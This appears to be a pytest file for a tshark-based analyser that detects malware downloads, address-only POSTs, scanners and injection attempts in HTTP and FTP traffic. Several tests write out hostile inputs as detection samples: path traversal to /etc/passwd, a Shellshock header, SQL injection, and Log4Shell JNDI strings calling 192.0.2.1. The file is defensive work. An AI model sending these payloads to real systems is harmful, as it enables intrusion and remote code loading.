"""What malware and attackers do over HTTP is told from the segments, however they were captured; nothing that was sent
gets out.

SPDX-License-Identifier: GPL-2.0-or-later
"""
import collections
import random
import sys

import pytest
from conftest import ROOT

sys.path.insert(0, str(ROOT / "tests" / "generate"))
import payload  # noqa: E402
import wire  # noqa: E402
from lan import SECOND, Connection, Host, Lan  # noqa: E402

START = 1767571200 * SECOND
GATEWAY = Host("gateway", "10.1.0.1", "02:00:00:00:00:01")
CLIENTS = {4: Host("desk", "10.1.0.7", "02:00:00:00:00:07"), 6: Host("desk", "fd00::7", "02:00:00:00:00:07")}
SERVERS = {4: Host("out", "192.0.2.9"), 6: Host("out", "2001:db8::9")}
PROGRAM = payload.program_for_windows(random.Random(1), 6000)


class Talk:
    """One client and one server outside, whose frames a test may change before they are written."""

    def __init__(self, version=4, port=80):
        self.lan = Lan(GATEWAY, seed=5)
        self.client, self.server = CLIENTS[version], SERVERS[version]
        self.host = (f"[{self.server.text}]" if version == 6 else self.server.text).encode()
        self.port, self.time = port, START

    def connection(self):
        self.time += 10 * SECOND
        return Connection(self.lan, self.time, self.client, self.server, self.port)

    def frames(self):
        return self.lan.in_order()


@pytest.fixture
def told(tshark, installed_tshark):
    """told(frames): {(kind, subject): how often} of what is observed of HTTP."""
    def tell(frames, *options, **more):
        path = installed_tshark.folder / "manners.pcap"
        writer = wire.PcapWriter(path)
        for time, frame in frames:
            writer.add(time, frame)
        writer.close()
        path.chmod(0o644)
        rows = tshark.rows(path, "SELECT kind, subject, packets FROM observations", (), *options, **more)
        observed = collections.Counter()
        for kind, subject, packets in rows:
            if kind in ("download", "address-post", "web-answer", "injection", "scanner"):
                observed[kind, subject] += packets
        return observed
    return tell


def downloads(observed):
    return sorted(subject for kind, subject in observed if kind == "download")


def fetched(talk, answer, target=b"/a", host=None, pieces=1):
    connection = talk.connection()
    connection.client(payload.http_request(b"GET", target, host or talk.host))
    for begin in range(pieces):
        connection.server(answer[begin * len(answer) // pieces:(begin + 1) * len(answer) // pieces])
    connection.close()
    return talk.frames()


@pytest.mark.parametrize("version", [4, 6])
@pytest.mark.parametrize("port", [80, 8081, 61733])
def test_download(told, version, port):
    talk = Talk(version, port)
    host = talk.host + (b":%d" % port if port != 80 else b"")
    frames = fetched(talk, payload.http_answer(200, b"image/gif", PROGRAM), host=host)
    assert downloads(told(frames)) == ["PE type=image name=none host=address"]


@pytest.mark.parametrize("host, called", [(b"www.example.org", "name"), (b"192.0.2.9:80", "address"), (b"a", "name")])
def test_host(told, host, called):
    frames = fetched(Talk(), payload.http_answer(200, None, PROGRAM), host=host)
    assert downloads(told(frames)) == [f"PE type=none name=none host={called}"]


@pytest.mark.parametrize("head, body", [
    (payload.http_head(200, b"image/png", len(PROGRAM)), PROGRAM),
    (payload.http_head(200, b"image/png", None), payload.chunked(PROGRAM))])
def test_body_in_a_segment_of_its_own(told, head, body):
    talk = Talk()
    connection = talk.connection()
    connection.client(payload.http_request(b"GET", b"/a.exe", talk.host)).server(head).server(body).close()
    assert downloads(told(talk.frames())) == ["PE type=image name=executable host=address"]


def test_lost_segments(told):
    """Of the answer there are the first segment and some others: tshark shows no answer."""
    frames = fetched(Talk(), payload.http_answer(200, b"image/gif", PROGRAM))
    large = [index for index, (_, frame) in enumerate(frames) if len(frame) > 1000]
    assert downloads(told([entry for index, entry in enumerate(frames) if index != large[1]])) == [
        "PE type=image name=none host=address"]


def test_one_direction(told):
    talk = Talk()
    frames = fetched(talk, payload.http_answer(200, b"image/gif", PROGRAM))
    observed = told([entry for entry in frames if entry[1][26:30] == talk.server.address])
    assert downloads(observed) == ["PE type=image name=unknown host=unknown"]
    assert not [kind for kind, _ in observed if kind == "web-answer"]


@pytest.mark.parametrize("options, before", [(("layer=link",), ()), ((), ("-o", 'gui.column.format:"No.","%m"')),
                                             ((), ("-2",)), ((), ("-o", "tcp.desegment_tcp_streams:FALSE"))])
def test_however_it_is_read(told, options, before):
    frames = fetched(Talk(), payload.http_answer(200, b"image/gif", PROGRAM))
    assert downloads(told(frames, *options, before=before)) == ["PE type=image name=none host=address"]


def test_no_program(told):
    """Of other answers nothing is told, whatever they begin with."""
    talk = Talk()
    for body in (b"MZ" + b"x" * 900, b"\x7fELF" + b"x" * 900, b"", b"PE\0\0" * 90):
        fetched(talk, payload.http_answer(200, b"image/gif", body))
    fetched(talk, payload.http_answer(404, b"image/gif", PROGRAM))
    assert downloads(told(talk.frames())) == []


def test_delivery_optimization(told):
    talk = Talk()
    connection = talk.connection()
    connection.client(payload.http_request(b"GET", b"/filestreamingservice/files/1/2?cacheHostOrigin=x", talk.host,
                                           b"Microsoft-Delivery-Optimization/10.1"))
    connection.server(payload.http_answer(200, b"application/octet-stream", PROGRAM)).close()
    assert downloads(told(talk.frames())) == ["PE type=none name=none host=delivery"]


def posted(talk, body=b"x=1", extra=(), host=None):
    connection = talk.connection()
    connection.client(payload.http_request(b"POST", b"/gate.php?id=1", host or talk.host, extra=extra, body=body))
    connection.server(payload.http_answer(200)).close()


@pytest.mark.parametrize("version", [4, 6])
def test_posts(told, version):
    talk = Talk(version)
    posted(talk)
    posted(talk)
    posted(talk, extra=(b"Content-Type: text/xml", b'SOAPAction: "x"'))
    posted(talk, extra=(b"Content-Type: application/x-git-upload-pack-request",))
    posted(talk, extra=(b"Content-Type: application/x-protobuf", b"X-Prometheus-Remote-Write-Version: 0.1.0"))
    posted(talk, extra=(b"Referer: http://" + talk.host + b"/",))
    posted(talk, host=b"www.example.org")
    observed = told(talk.frames())
    words = {subject.split()[0]: packets for (kind, subject), packets in observed.items() if kind == "address-post"}
    assert words == {"data": 2, "form": 1, "protocol": 3}
    assert len({subject.split()[1] for kind, subject in observed if kind == "address-post"}) == 1


def test_retransmitted_post_is_one(told):
    """However late."""
    talk = Talk()
    posted(talk)
    frames = talk.frames()
    post = next(entry for entry in frames if b"POST" in entry[1])
    copies = [(post[0] + late, bytearray(post[1])) for late in (SECOND, 3 * SECOND)]
    for number, (_, frame) in enumerate(copies):
        frame[18:20] = (7000 + number).to_bytes(2, "big")  # IP's identification, so that it is no copy
    observed = told(sorted([*frames, *((time, bytes(frame)) for time, frame in copies)]))
    assert sum(packets for (kind, _), packets in observed.items() if kind == "address-post") == 1


def test_answers(told):
    """Paths that are not there, each once however often; numbers make no paths."""
    talk = Talk()
    connection = talk.connection()
    for target, status in ((b"/", 200), (b"/a", 404), (b"/a?x=1", 404), (b"/b", 404), (b"/t/1.png", 404),
                           (b"/t/22.png", 404), (b"/c", 302)):
        connection.client(payload.http_request(b"GET", target, b"www.example.org"))
        connection.server(payload.http_answer(status))
    connection.close()
    observed = sorted((subject.split()[0], packets) for (kind, subject), packets in told(talk.frames()).items()
                      if kind == "web-answer")
    assert observed == [("found", 2), ("missing", 1), ("missing", 2), ("missing", 2)]


def test_signs(told):
    talk = Talk()
    connection = talk.connection()
    for target, agent, extra in (
            (b"/?a=../../../etc/passwd", b"Nikto", ()), (b"/", b"() { :; }; x", ()),
            (b"/?a=1+union+select+2", b"x", (b"X-Forwarded-For: 10.9.9.9",)),
            (b"/", b"x", (b"X-Forwarded-For: ${jndi:ldap://192.0.2.1/a}",))):
        connection.client(payload.http_request(b"GET", target, b"www.example.org", agent, extra))
        connection.server(payload.http_answer(200))
    connection.close()
    assert {key for key in told(talk.frames()) if key[0] != "web-answer"} == {
        ("injection", "file target"), ("injection", "shell-shock header"), ("injection", "sql target forwarded"),
        ("injection", "jndi header"), ("scanner", "Nikto")}


def test_user_name_is_no_login(told, tshark, installed_tshark):
    """FTP's or a form's: a name that is an injection logs nobody in."""
    talk = Talk(port=21)
    control = talk.connection()
    control.server(b"220 ready\r\n").client(b"USER ${jndi:ldap://192.0.2.1/a}\r\n").server(b"331 password\r\n")
    control.client(b"PASS x\r\n").server(b"530 no\r\n").close()
    talk.port = 80
    form = talk.connection()
    form.client(payload.http_request(b"POST", b"/login", b"www.example.org", extra=(
        b"Content-Type: application/x-www-form-urlencoded",), body=b"username=${jndi:ldap://192.0.2.1/a}&password=x"))
    form.server(payload.http_answer(200)).close()
    frames = talk.frames()
    assert told(frames)["injection", "jndi user"] == 2
    record = tshark.json(installed_tshark.folder / "manners.pcap")
    assert "jndi:ldap" not in str(record)
    subjects = tshark.rows(installed_tshark.folder / "manners.pcap", "SELECT subject FROM observations", ())
    assert any(subject.startswith("FTP") for subject, in subjects) and "jndi:ldap" not in str(subjects)
    assert not [f for f in record["findings"] if f["rule"] == "cleartext-login"]
    assert [f["host"] for f in record["findings"] if f["rule"] == "injection"] == [talk.client.text]


def test_injection_is_nobody(told, tshark, installed_tshark):
    """On a port where no dissector reads FTP: what is refused is not that of whom was named before."""
    talk = Talk(port=2121)
    control = talk.connection()
    control.server(b"220 FTP ready\r\n").client(b"USER bob\r\n").server(b"331 password\r\n")
    control.client(b"USER ${jndi:ldap://192.0.2.1/a}\r\n").server(b"331 password\r\n")
    control.client(b"PASS x\r\n").server(b"530 no\r\n").close()
    told(talk.frames())
    subjects = tshark.rows(installed_tshark.folder / "manners.pcap",
                           "SELECT subject FROM observations WHERE kind = 'login-failure'", ())
    assert [subject.split("\t")[0].split()[0] for subject, in subjects] == ["FTP"]
    assert "bob" not in str(subjects) and "jndi" not in str(subjects)


def test_nothing_gets_out(told, tshark, installed_tshark):
    """Neither paths nor queries, header fields or bodies are in the store or in a report."""
    talk = Talk()
    connection = talk.connection()
    for number in range(60):
        connection.client(payload.http_request(
            b"GET", b"/sEcReTa%d.php?token=sEcReTb&x=1'+or+'1'='1" % (number % 7), talk.host, b"Nikto sEcReTc"))
        connection.server(payload.http_answer(404, b"text/html", b"sEcReTd"))
        connection.client(payload.http_request(b"POST", b"/p?k=sEcReTe", talk.host, body=b"sEcReTf=1"))
        connection.server(payload.http_answer(200, b"image/gif", PROGRAM + b"sEcReTg"))
    connection.close()
    assert len(told(talk.frames())) >= 5
    path = installed_tshark.folder / "manners.pcap"
    done = tshark.hostgraph(path, "export=all.sqlite", "export=all.json", "export=all.html")
    files = [(tshark.work / name).read_bytes() for name in ("all.sqlite", "all.json", "all.html")]
    for text in [done.out.encode(), *files]:
        for letter in b"bcdefg":
            assert b"sEcReT" + bytes([letter]) not in text


@pytest.mark.parametrize("cut", [0, 60, 100, 140, 200, 300])
def test_cut_short(told, cut):
    """What the capture did not keep is not told, and nothing breaks."""
    frames = fetched(Talk(), payload.http_answer(200, b"image/gif", PROGRAM))
    observed = told([(time, frame[:cut] if cut else frame) for time, frame in frames])
    assert downloads(observed) == ([] if 0 < cut < 300 else ["PE type=image name=none host=address"])
